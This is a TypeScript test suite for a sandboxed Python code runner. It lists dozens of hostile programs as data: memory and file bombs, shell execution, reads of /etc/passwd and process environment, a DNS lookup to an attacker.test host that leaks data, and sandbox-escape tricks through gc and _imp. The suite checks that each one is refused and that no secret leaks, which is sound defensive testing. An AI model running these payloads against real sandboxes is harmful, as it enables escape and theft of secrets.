import { createServer } from "node:net"
import { assert, describe, it } from "@effect/vitest"
import { Effect, Layer, Result } from "effect"
import { residentBytes } from "./_resident_bytes.ts"
import { childrenOf } from "./_test_processes.ts"
import type { CodeLimits } from "./code_request.ts"
import { CodeRunner } from "./code_runner.ts"

const canary = "canary-5f0c1d"
const timeOut = "code_time_limit_exceeded"
const memory = "code_memory_limit_exceeded"
const system = "code_system_refused"
const network = "code_network_refused"
const missing = "code_module_not_available"

/** Filling the memory may take a while on a busy machine; whoever is to run out of it has the time to. */
const limitsFor = (ending: string): CodeLimits => ({
  timeout: ending === timeOut ? 700 : 6_000,
  memory: 48 * 1024 * 1024,
  output: 1024 * 1024
})

const body = (...lines: ReadonlyArray<string>): string =>
  ["def main(name, port):", ...lines.map((line) => `    ${line}`)].join("\n")

/** Attacks by name, the code each must end in (`ok`: it is harmless here), and the program. */
const attacks: ReadonlyArray<readonly [name: string, ending: string, code: string]> = [
  ["infinite loop", timeOut, body("while True: pass")],
  ["infinite loop outside main", timeOut, "while True: pass"],
  [
    "loop that catches everything",
    timeOut,
    body("while True:", "    try:", "        while True: pass", "    except BaseException: pass")
  ],
  ["catastrophic regular expression", timeOut, body("import re", "re.match('(a+)+$', 'a' * 64 + 'b')")],
  ["number of a billion digits", timeOut, body("return {'a': len(str(10 ** 10 ** 9))}")],
  ["native loop", timeOut, body("return {'a': sum(range(10 ** 12))}")],
  ["finalizer that never ends", timeOut, body("class A:", "    def __del__(self):", "        while True: pass", "A()")],
  [
    "error whose text never ends",
    timeOut,
    body("class A(Exception):", "    def __str__(self):", "        while True: pass", "raise A()")
  ],
  ["sleep of years", timeOut, body("import time", "time.sleep(1e9)")],
  ["sleep in asyncio", timeOut, body("import asyncio", "asyncio.run(asyncio.sleep(1e6))")],
  [
    "bomb that catches being out of memory",
    timeOut,
    body("a = []", "while True:", "    try: a.append('x' * 10 ** 6 + str(len(a)))", "    except MemoryError: pass")
  ],
  ["list of strings", memory, body("a = []", "while True: a.append('x' * 10 ** 6 + str(len(a)))")],
  ["large array of bytes", memory, body("return {'a': len(bytearray(10 ** 9))}")],
  ["string doubling", memory, body("a = 'x'", "while True: a += a")],
  ["dictionary bomb", memory, body("a = {}", "while True: a[len(a)] = [len(a)]")],
  ["nested list bomb", "code_threw", body("a = []", "while True: a = [a]")],
  [
    "decompression bomb",
    memory,
    body(
      "import zlib",
      "z = zlib.compress(b'0' * 10 ** 7)",
      "return {'a': len(zlib.decompress(zlib.compress(b'')) + zlib.decompress(z) * 100)}"
    )
  ],
  ["bomb of files", "code_threw", body("while True:", "    with open('/tmp/a', 'ab') as f: f.write(b'x' * 10 ** 6)")],
  ["file of many gigabytes", "code_threw", body("open('/tmp/a', 'wb').truncate(2 ** 33)")],
  ["bomb of empty files", "code_threw", body("for i in range(10 ** 9): open(f'/tmp/{i}', 'w').close()")],
  ["endless recursion", "code_threw", body("return main(name, port)")],
  [
    "endless recursion without a limit",
    "code_threw",
    body("import sys", "sys.setrecursionlimit(2 ** 30)", "f = lambda x: sorted([x, x], key=f)", "f(1)")
  ],
  ["deeply nested JSON", "code_threw", body("import json", "json.loads('[' * 10 ** 6)")],
  ["deeply nested source", "code_threw", body("eval('(' * 10 ** 5 + ')' * 10 ** 5)")],
  ["text of a nested list", "code_threw", body("a = []", "for _ in range(10 ** 6): a = [a]", "return {'a': repr(a)}")],
  ["nested result", "code_threw", body("a = {}", "for _ in range(10 ** 5): a = {'a': a}", "return a")],
  ["result in a circle", "code_result_invalid", body("a = {}", "a['a'] = a", "return a")],
  ["endless printing", timeOut, body("while True: print('x' * 1000)")],
  ["much printed", "ok", body("for _ in range(200): print('x' * 10 ** 6)", "return {}")],
  ["large result", "code_output_too_large", body("return {'a': 'x' * (2 * 10 ** 6)}")],
  ["result of many values", "code_output_too_large", body("return {'a': [0] * 60_000}")],
  ["os.system", system, body("import os", "return {'a': os.system('id')}")],
  ["posix.system", system, body("import posix", "return {'a': posix.system('id')}")],
  ["os.popen", system, body("import os", "return {'a': os.popen('id').read()}")],
  [
    "subprocess",
    system,
    body("import subprocess", "return {'a': subprocess.run(['id'], capture_output=True).stdout.decode()}")
  ],
  ["subprocess from below", "code_threw", body("import _posixsubprocess", "_posixsubprocess.fork_exec(*[None] * 23)")],
  ["fork", system, body("import os", "os.fork()")],
  ["exec", system, body("import os", "os.execv('/bin/sh', ['sh'])")],
  ["thread", system, body("import threading", "threading.Thread(target=main).start()")],
  ["thread from below", "code_threw", body("import _thread", "_thread.start_new_thread(main, ())")],
  ["multiprocessing", missing, body("import multiprocessing", "multiprocessing.Process(target=main).start()")],
  ["ctypes", missing, body("import ctypes", "ctypes.string_at(0)")],
  ["JavaScript", missing, body("import js", "return {'a': str(js.process.env)}")],
  ["JavaScript of Pyodide", missing, body("import pyodide_js", "pyodide_js.mountNodeFS('/mnt', '/')")],
  ["run_js", missing, body("from pyodide.code import run_js", "return {'a': run_js('process.pid')}")],
  ["__import__", missing, body("return {'a': str(__import__('js'))}")],
  [
    "import past the finders, which finds stubs",
    "ok",
    body(
      "import sys",
      "sys.meta_path[:] = sys.meta_path[1:]",
      "from pyodide.ffi import to_js",
      "return {'a': to_js([]) == []}"
    )
  ],
  [
    "function called by its address",
    system,
    body(
      "import sys, _imp, importlib.util",
      "sys.modules['_ctypes'] = m = _imp.create_builtin(importlib.util.spec_from_loader('_ctypes', None))",
      "_imp.exec_builtin(m)",
      "sys.meta_path[:] = sys.meta_path[1:]",
      "import ctypes",
      "return {'a': ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(1)(b'id')}"
    )
  ],
  [
    "interpreter's module made again",
    system,
    body(
      "import _imp, importlib.util",
      "m = _imp.create_builtin(importlib.util.spec_from_loader('_pyodide_core', None))",
      "_imp.exec_builtin(m)",
      "return {'a': str(m.to_js([]))}"
    )
  ],
  [
    "interpreter's module from the garbage",
    system,
    body(
      "import gc, types",
      "for m in gc.get_objects():",
      "    if isinstance(m, types.ModuleType) and m.__name__ == '_pyodide_core':",
      "        f = m.to_js([]).constructor.constructor",
      "        return {'a': str(f('return process.pid')())}",
      "    if isinstance(m, dict) and 'to_js' in m:",
      "        f = m['to_js']([]).constructor.constructor",
      "        return {'a': str(f('return process.pid')())}"
    )
  ],
  [
    "JavaScript objects from the garbage",
    system,
    body(
      "import gc",
      "for o in gc.get_objects():",
      "    if isinstance(o, dict) and 'pyodide_js' in o: o['pyodide_js'].mountNodeFS('/mnt', '/')"
    )
  ],
  [
    "ctypes from below",
    "code_threw",
    body(
      "import _imp, importlib.util",
      "m = _imp.create_builtin(importlib.util.spec_from_loader('_ctypes', None))",
      "return {'a': m.dlopen(None, 0), 'b': m.dlsym(0, 'emscripten_run_script')}"
    )
  ],
  [
    "library of its own",
    "code_threw",
    body(
      "import _imp, importlib.util",
      "open('/tmp/x.so', 'wb').write(b'\\0asm\\1\\0\\0\\0')",
      "_imp.create_dynamic(importlib.util.spec_from_file_location('x', '/tmp/x.so'))"
    )
  ],
  ["file of the host", "code_threw", body("return {'a': open('/etc/passwd').read()}")],
  ["process file of the host", "code_threw", body("return {'a': open('/proc/self/environ').read()}")],
  [
    "all files there are",
    "ok",
    body(
      "import os",
      "text = ''",
      "for folder, _, files in os.walk('/'):",
      "    for file in files:",
      "        if not folder.startswith(('/dev', '/proc')): text += open(os.path.join(folder, file), 'rb').read().decode('latin1')",
      `return {'a': '${canary.slice(0, 6)}' + '${canary.slice(6)}' in text}`
    )
  ],
  ["environment", "ok", body("import os", "return {'a': dict(os.environ)}")],
  ["socket", network, body("import socket", "socket.create_connection(('127.0.0.1', port))")],
  ["socket by hand", network, body("import socket", "s = socket.socket()", "s.connect(('127.0.0.1', port))")],
  [
    "socket from below",
    "code_threw",
    body("import _socket", "s = _socket.socket(2, 1, 0)", "s.connect(('127.0.0.1', port))")
  ],
  ["listening socket", network, body("import socket", "socket.create_server(('', 0))")],
  [
    "urllib",
    network,
    body("import urllib.request", "return {'a': urllib.request.urlopen(f'http://127.0.0.1:{port}/').read().decode()}")
  ],
  [
    "http.client",
    network,
    body("import http.client", "http.client.HTTPConnection('127.0.0.1', port).request('GET', '/')")
  ],
  ["asyncio connection", network, body("import asyncio", "asyncio.run(asyncio.open_connection('127.0.0.1', port))")],
  ["name server", network, body("import socket", "socket.gethostbyname(name + '.attacker.test')")],
  ["requests", missing, body("import requests", "requests.get(f'http://127.0.0.1:{port}/')")],
  ["sys.exit", "code_threw", body("import sys", "sys.exit(0)")],
  ["os._exit", system, body("import os", "os._exit(0)")],
  ["os.abort", system, body("import os", "os.abort()")],
  ["signal to itself", system, body("import os", "os.kill(os.getpid(), 9)")],
  ["signal to its host", system, body("import os", "os.kill(os.getppid(), 9)")],
  ["segmentation fault", "code_worker_lost", body("import faulthandler", "faulthandler._sigabrt()")],
  ["forged code", "code_threw", body("c = main.__code__.replace(co_code=b'\\x64\\xff' * 40, co_consts=())", "exec(c)")],
  ["KeyboardInterrupt", "code_threw", body("raise KeyboardInterrupt()")],
  ["closed streams", "ok", body("import os, sys", "sys.stdout.close()", "os.close(2)", "return {}")],
  ["streams that raise", "ok", body("import sys", "sys.stdout = sys.stderr = None", "return {}")],
  [
    "no imports any more",
    "ok",
    body("import builtins, sys", "sys.modules.clear()", "builtins.__import__ = None", "return {}")
  ],
  ["no builtins any more", "code_worker_lost", body("import builtins", "builtins.__dict__.clear()", "return {}")],
  [
    "replaced json",
    "ok",
    body("import json", "json.dumps = json.JSONEncoder.encode = lambda *a: 'mine'", "return {'a': 1}")
  ],
  ["file of the exchange removed", "ok", body("import os", "os.remove('/.flowglass')", "return {}")],
  [
    "folder in place of the file of the exchange",
    "code_worker_lost",
    body("import os", "os.remove('/.flowglass')", "os.mkdir('/.flowglass')", "return {}")
  ],
  ["trace function", "ok", body("import sys", "sys.settrace(lambda *a: 1 / 0)", "return {}")],
  [
    "names of JavaScript's prototypes",
    "ok",
    body(
      "for n in ['__proto__', 'constructor']: open('/tmp/' + n, 'w').write('x')",
      "return {'__proto__': {'polluted': 1}, 'constructor': 1}"
    )
  ],
  ["result that lies", "ok", body("class D(dict):", "    def items(self): return [('mine', 1)]", "return D(a=1)")],
  ["set as result", "code_result_invalid", body("return {'a': {1, 2}}")],
  ["list as result", "code_result_invalid", body("return [1]")],
  ["no main", "code_main_missing", "def other(): return {}"],
  ["main that is no function", "code_main_missing", "main = 1"],
  ["broken program", "code_syntax_invalid", "def main(:\n    return {}"],
  ["broken indentation", "code_syntax_invalid", "def main():\nreturn {}"],
  ["NUL in the program", "code_syntax_invalid", "def main(): return {}\n\0"],
  ["lone surrogate in the program", "code_threw", "def main(name, port): return {'a': '\ud800'}"],
  ["lone surrogate in an error", "code_threw", body("raise ValueError('\\ud800\\0')")],
  ["debugger", "code_threw", body("breakpoint()")],
  ["question to the user", "code_threw", body("return {'a': input()}")]
]

/** Attacks that leave the interpreter behind changed; each has a run of its own. */
const lasting = new Set([
  "function called by its address",
  "import past the finders, which finds stubs",
  "interpreter's module made again",
  "closed streams",
  "streams that raise",
  "no imports any more",
  "no builtins any more",
  "replaced json",
  "trace function"
])

const layer = CodeRunner.layerWith({ python: { processes: 2 } })

/** A server that counts who connects. */
const listener = Effect.acquireRelease(
  Effect.callback<{ readonly port: number; readonly connections: () => number }>((resume) => {
    let connections = 0
    const server = createServer((socket) => {
      connections++
      socket.end()
    })
    server.listen(0, "127.0.0.1", () => {
      const address = server.address()
      const port = typeof address === "object" && address !== null ? address.port : 0
      resume(Effect.succeed({ port, connections: () => connections, close: () => server.close() }))
    })
  }),
  (opened) => Effect.sync(() => ("close" in opened && typeof opened.close === "function" ? opened.close() : undefined))
)

const megabytes = () => process.memoryUsage().rss / 1024 / 1024

describe("hostile Python", () => {
  it.live(
    "ends in its declared code within the limit and half a second, sees no secret, and returns its memory",
    () =>
      Effect.gen(function* () {
        process.env["FLOWGLASS_CANARY"] = canary
        const runner = yield* CodeRunner
        const { port, connections } = yield* listener
        const run = (name: string, code: string, limits: CodeLimits) =>
          runner.run({ language: "python3", code, inputs: { name: "Ada", port }, limits, run: name })
        yield* run("shared", "def main(name, port): return {}", limitsFor("ok"))
        const before = megabytes()
        const wrong: Array<string> = []
        for (const [name, ending, code] of attacks) {
          const limits = limitsFor(ending)
          const id = lasting.has(name) ? name : "shared"
          // The start of a process is not measured.
          yield* run(id, "def main(name, port): return {}", limits)
          const started = performance.now()
          const outcome = yield* Effect.result(run(id, code, limits))
          const took = performance.now() - started
          const ended = Result.isSuccess(outcome) ? "ok" : outcome.failure.code
          const shown = JSON.stringify(outcome)
          if (ended !== ending) wrong.push(`${name}: ${ended} instead of ${ending}: ${shown.slice(0, 300)}`)
          if (took > limits.timeout + 500) wrong.push(`${name}: took ${Math.round(took)} ms`)
          if (shown.includes(canary)) wrong.push(`${name}: saw the secret`)
          if (shown.length > 200_000) wrong.push(`${name}: told ${shown.length} characters`)
        }
        assert.deepStrictEqual(wrong, [])
        assert.strictEqual(connections(), 0)
        const large = childrenOf(process.pid).filter((pid) => (residentBytes(pid) ?? 0) > 400e6)
        assert.deepStrictEqual(large, [])
        const grown = megabytes() - before
        assert.isBelow(grown, 100, `the process grew by ${Math.round(grown)} MB`)
      }).pipe(Effect.provide(Layer.fresh(layer)), Effect.scoped),
    300_000
  )
})
